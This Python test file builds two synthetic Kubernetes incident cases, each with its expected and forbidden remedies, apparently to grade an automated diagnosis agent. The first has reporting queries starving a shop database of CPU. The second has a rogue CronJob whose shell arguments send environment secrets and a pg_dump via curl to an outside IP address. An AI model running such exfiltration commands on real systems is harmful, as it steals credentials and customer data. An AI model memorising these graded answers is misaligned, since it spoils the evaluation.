"""Other people's hands: analysts on the database of the orders, and a schedule that nobody here wrote."""

from __future__ import annotations

from tests.diagnosis.casemaker.case import Fault, case
from tests.diagnosis.casemaker.cases.fresh_a import NO_METRICS
from tests.diagnosis.casemaker.cases.fresh_p import calls, machines, measured
from tests.diagnosis.casemaker.events import born, event
from tests.diagnosis.casemaker.jobs import busy, job
from tests.diagnosis.casemaker.logs import L, log, often
from tests.diagnosis.casemaker.network import ingress
from tests.diagnosis.casemaker.platform import nodes, secret
from tests.diagnosis.casemaker.pods import P, terminated
from tests.diagnosis.casemaker.scene import alert, postgres, session, sessions, taken, well
from tests.diagnosis.casemaker.signals import flat, requests, signal, step
from tests.diagnosis.casemaker.templates import container, pod_spec
from tests.diagnosis.casemaker.workloads import Rev, deployment
from tests.diagnosis.casemaker.world import World, days, hours, minutes


@case(
    "question-of-the-analysts-takes-the-cores-of-the-orders",
    "garden-shop",
    "2026-11-24T11:07:00",
    title="Checkout is slow: since 27 minutes reports run on the database of the orders and take all its cores",
    drawn_from="analytical queries of a BI tool on the primary: CPU at 100%, short statements wait for a core",
    why="The database is at its CPU limit since the minute in which eight report queries began; they run still, wait "
    "for nothing and belong to the workers of Superset. Checkout has its usual traffic, its usual statements and "
    "sessions to spare; its release is from before and was quick. Whether those queries may be cancelled, their "
    "owners have to say; a restart of the database or of the shop takes orders away.",
    expect=[Fault("Deployment/superset-worker", "resource_exhaustion", "page_human")],
    acceptable=[("resource_exhaustion", "page_human", "StatefulSet/orders-db")],
    tolerated=["restart_connection_pool"],
    forbidden=[
        "rollback_workload",
        "scale_workload",
        "no_action",
        "isolate_workload",
        {"remedy": "restart_workload", "target": "StatefulSet/orders-db"},
        {"remedy": "restart_workload", "target": "Deployment/checkout"},
        {"remedy": "restart_connection_pool", "target": "Deployment/checkout"},
    ],
)
def analysts(w: World) -> None:
    nodes(w, "gs-1", "gs-2", "gs-3", cpu="8")
    for name, keys in (("postgres-auth", ["POSTGRES_PASSWORD"]), ("superset-db", ["SQLALCHEMY_URI"])):
        secret(w, name, keys, age=days(300))
    image, began = "registry.garden-shop.example", minutes(27)
    base = postgres(w, "orders-db")
    shop = well(w, "checkout", f"{image}/checkout:4.41.0", pods=4, age=minutes(55), before=f"{image}/checkout:4.40.2",
                env={"DB_HOST": "orders-db", "DB_POOL": "20"})  # fmt: skip
    stock = well(w, "stock", f"{image}/stock:2.9.5", age=days(31), env={"DB_HOST": "orders-db", "DB_POOL": "10"})
    page = well(w, "superset", "docker.io/apache/superset:4.1.1", pods=1, age=days(64), port=8088)
    spec = pod_spec(
        container("worker", "docker.io/apache/superset:4.1.1", port=0, ready=None, memory=("1Gi", "2Gi"),
                  env_from=("secret/superset-db",), cpu=("250m", "1"),
                  command=("celery", "--app=superset.tasks.celery_app:app", "worker", "--pool=prefork", "-c", "6"))
    )  # fmt: skip
    worker = deployment(w, "superset-worker", [Rev(spec, days(64))], 2)
    ingress(w, "shop", "www.garden-shop.example", [("/checkout", "checkout", 80), ("/stock", "stock", 80)])
    ask = (
        "SELECT date_trunc('week', o.created_at) AS w, c.region, l.sku, count(DISTINCT o.customer_id), sum(l.net) FROM "
        "orders o JOIN order_lines l ON l.order_id = o.id JOIN customers c ON c.id = o.customer_id GROUP BY 1, 2, 3"
    )
    short = "SELECT id, sku, qty, price FROM basket_items WHERE basket_id = $1"
    sessions(w, "StatefulSet/orders-db", 200, [
        session("superset-worker", "Deployment/superset-worker", "active", 8, age=1616, user="superset_ro",
                application="Apache Superset", query=ask),
        session("checkout", "Deployment/checkout", "active", 21, age=2.4, application="checkout", query=short),
        session("checkout", "Deployment/checkout", "idle", 34, age=9, application="checkout", query="COMMIT"),
        session("stock", "Deployment/stock", "active", 4, age=1.8, application="stock",
                query="SELECT on_hand FROM stock WHERE sku = $1"),
        session("stock", "Deployment/stock", "idle", 11, age=14, application="stock", query="COMMIT"),
    ])  # fmt: skip
    for index in range(2):
        tasks = [
            L(
                began - 3 * n - index,
                "info",
                f"Task sql_lab.get_sql_results[{mark}{index}7a2-4a0e] received",
                "celery.worker.strategy",
            )
            for n, mark in enumerate(("1f0c", "93be", "c27d", "5b6e"))
        ]
        ran = L(began - 16, "info", f"Query 88{31 + index}: Running statement 1 out of 1", "superset.sql_lab")
        old = often(400, 3500, began + 90, "info", ["Task reports.scheduler[{n}] succeeded in 0.21s: None"],
                    "celery.app.trace")  # fmt: skip
        log(w, worker, index, "python", [*old, *tasks, ran])
    asked = "POST /api/v1/sqllab/execute/ 202 (dashboard 'Autumn review', user=merchandising)"
    log(w, page, 0, "python", [*often(70, 3400, 9, "info", ["GET /api/v1/chart/data 200"], "werkzeug"),
                               *often(2, began + 3, began - 14, "info", [asked], "werkzeug")])  # fmt: skip
    slow = [f"duration: {ms}.{ms % 7}04 ms  execute <unnamed>: {short}" for ms in (2204, 1871, 2633, 1410)]
    slow.append("duration: 1744.190 ms  execute <unnamed>: SELECT on_hand FROM stock WHERE sku = $1")
    log(w, base, 0, "postgres", [*often(25, began - 60, 2, "log", slow, "app@orders"),
                                 *often(300, 3500, 20, "log", ["checkpoint starting: time"])])  # fmt: skip
    for index in range(4):
        fine = often(60, minutes(54), began + 10, "info", ["POST /checkout 201 143ms order={n}"], "c.g.shop.Access")
        late = ["POST /checkout 201 6120ms order={n}", "POST /checkout 201 7344ms order={n}", "GET /basket 200 2411ms"]
        log(w, shop, index, "logback", [*fine, *often(24, began - 90 - 4 * index, 1, "info", late, "c.g.shop.Access")])
    hot = {0: {"cpu_share": step(0.31, 0.998, began), "throttled_share": step(0.01, 0.71, began)}}
    measured(w, base, pods=hot)
    measured(w, shop, 0.3, prior=0.3)
    for of in (stock, page, worker):
        measured(w, of, 0.12)
    requests(w, "checkout", rate=flat(22), errors=step(0.0008, 0.031, began, over=300), p95=step(0.3, 7.1, began))
    requests(w, "stock", rate=flat(40), errors=step(0.0004, 0.004, began), p95=step(0.06, 2.2, began))
    calls(w, "checkout", "orders-db", step(0.02, 2.4, began), 0.0005)
    signal(w, "db_connections", {"component": "orders-db"}, step(70, 79, began))
    signal(w, "db_max_connections", {"component": "orders-db"}, flat(200), noise=0)
    signal(w, "db_locks_waiting", {"component": "orders-db"}, flat(0), noise=0)
    signal(w, "volume_used_share", {"persistentvolumeclaim": "data-orders-db-0"}, flat(0.48), noise=0)
    machines(w, 0.4)
    alert(w, "CheckoutLatencyHigh", minutes(21), "p95 of checkout is 7.1 s, objective 1 s", service="checkout")
    taken(w, ("objects", True, ""), ("logs", True, ""), ("prometheus", True, ""), ("database", True, ""))


@case(
    "schedule-that-nobody-made-sends-the-passwords-away",
    "city-museum",
    "2026-08-09T05:34:00",
    title="A CronJob that no release knows reads the database with our own password and posts it to a bare address",
    drawn_from="attackers that keep a foothold as a Kubernetes CronJob, with curl to an address and a shell behind it",
    why="All else here came by Argo CD and from the house's registry; this one was created with kubectl at 01:13 on a "
    "Sunday, runs a public image, takes both Secrets into its environment and sends a dump to an address without a "
    "name. Its log and the database's tell the same minute. A release of the ticket shop the night before is innocent. "
    "Cut it off and stop its schedule, keep the pod; the passwords have to be changed by people afterwards.",
    expect=[Fault("CronJob/kube-metrics-sync", "security_incident", "isolate_workload")],
    acceptable=[
        ("security_incident", "isolate_workload", "Job/kube-metrics-sync-29770890"),
        ("security_incident", "isolate_workload", "Pod/kube-metrics-sync-29770890-l6c5l"),
    ],
    tolerated=["page_human"],
    forbidden=[
        "restart_workload",
        "rollback_workload",
        "scale_workload",
        "no_action",
        "restart_connection_pool",
        "scale_database",
        {"remedy": "isolate_workload", "target": "Deployment/tickets"},
        {"remedy": "isolate_workload", "target": "StatefulSet/postgres"},
    ],
)
def strange_schedule(w: World) -> None:
    nodes(w, "cm-1", "cm-2")
    secret(w, "postgres-auth", ["POSTGRES_USER", "POSTGRES_PASSWORD"], age=days(410))
    secret(w, "payment-api", ["PAYMENT_KEY"], age=days(410))
    image, ran = "registry.city-museum.example", minutes(4)
    base = postgres(w)
    env = {"PGHOST": "postgres", "PGDATABASE": "tickets"}
    shop = well(w, "tickets", f"{image}/tickets:140", pods=3, age=hours(11), before=f"{image}/tickets:139", env=env)
    site = well(w, "site", f"{image}/site:61", age=days(19), port=3000)
    ingress(w, "museum", "www.city-museum.example", [("/tickets", "tickets", 80), ("/", "site", 80)])
    ours = pod_spec(container("close-day", f"{image}/tickets:139", port=0, ready=None, env=env,
                              env_from=("secret/postgres-auth",), command=("tickets", "close-day")))  # fmt: skip
    ended = P(age=hours(3.57), phase="Succeeded", ready=False, unready=hours(3.55),
              state=terminated(0, "Completed", started=hours(3.57) - 3, finished=hours(3.55)))  # fmt: skip
    day = job(w, "close-day-29770680", ours, age=hours(3.57), pods=[ended], cron="close-day", schedule="0 2 * * *")
    for obj in w.objects:
        if obj["kind"] in {"Deployment", "StatefulSet", "CronJob"}:
            track = f"city-museum:{obj['apiVersion'].split('/')[0]}/{obj['kind']}:city-museum/{obj['metadata']['name']}"
            obj["metadata"].setdefault("annotations", {})["argocd.argoproj.io/tracking-id"] = track
            w.changed(obj, hours(11) if obj is shop.obj else days(19), "argocd-controller", {"f:spec": {}})
    theirs = pod_spec(
        container(
            "sync",
            "docker.io/library/postgres:16-alpine",
            port=0,
            ready=None,
            env_from=("secret/postgres-auth", "secret/payment-api"),
            command=("sh", "-c"),
            args=(
                "apk add -q curl; env | curl -s -m 20 --data-binary @- http://198.51.100.77:8081/e; PGPASSWORD="
                "$POSTGRES_PASSWORD pg_dump -v -h postgres -U $POSTGRES_USER tickets | gzip | curl -sS -T - "
                "http://198.51.100.77:8081/d/$(hostname)",
            ),
        )
    )
    bad = busy(w, "kube-metrics-sync", theirs, ages=[ran], schedule="*/30 * * * *")
    born_at = w.at(hours(4.35))
    bad.obj["metadata"]["creationTimestamp"] = born_at
    bad.obj["spec"] |= {"successfulJobsHistoryLimit": 0, "failedJobsHistoryLimit": 0}
    bad.obj["status"]["lastSuccessfulTime"] = w.at(minutes(30.4))
    w.changed(bad.obj, hours(4.35), "kubectl-create", {"f:spec": {"f:jobTemplate": {}, "f:schedule": {}}})
    task = next(o for o in w.objects if o["kind"] == "Job" and o["metadata"]["name"] != day.name)
    event(w, bad.obj, "SuccessfulCreate", f"Created job {task['metadata']['name']}", kind="Normal", last=ran)
    born(w, bad.pods[0], task, ran)
    place = bad.pods[0]["status"]["podIP"]
    dumped = ("visitors", "orders", "season_passes", "staff")
    log(w, bad, 0, "plain", [
        L(ran - 9, "", '{"ok":true,"n":2741}'),
        L(ran - 11, "", "pg_dump: last built-in OID is 16383"),
        L(ran - 11, "", "pg_dump: reading extensions"),
        L(ran - 12, "", "pg_dump: reading user-defined tables"),
        *(L(ran - 15 - 40 * n, "", f'pg_dump: dumping contents of table "public.{each}"')
          for n, each in enumerate(dumped)),
    ])  # fmt: skip
    lines = often(300, 3500, 20, "log", ["checkpoint starting: time"])
    for again in range(2):
        back = ran + minutes(30) * again
        lines += [
            L(back - 10, "log", f"connection received: host={place if not again else '10.244.1.97'} port=4118{again}"),
            L(back - 10, "log", "connection authorized: user=tickets database=tickets application_name=pg_dump"),
            *(L(back - 15 - 40 * n, "log", f"statement: COPY public.{each} TO stdout;", "tickets@tickets")
              for n, each in enumerate(dumped)),
        ]  # fmt: skip
    log(w, base, 0, "postgres", lines)
    for index in range(3):
        said = ["order {n} paid", "GET /tickets/slots 200 14ms", "order {n} mailed"]
        log(w, shop, index, "logfmt", often(160, 3300, 9, "info", said))
    for index in range(2):
        log(w, site, index, "pino", often(90, 3300, 9, "info", ["GET / 200", "GET /exhibitions/{n} 200"]))
    told = f"{bad.pod(0)} connects to 198.51.100.77:8081, an address that no workload of city-museum has used before"
    alert(w, "EgressToUnknownAddress", minutes(3.5), told, severity="warning", pod=bad.pod(0), source="cilium-hubble")
    taken(w, ("objects", True, ""), ("logs", True, ""), NO_METRICS)
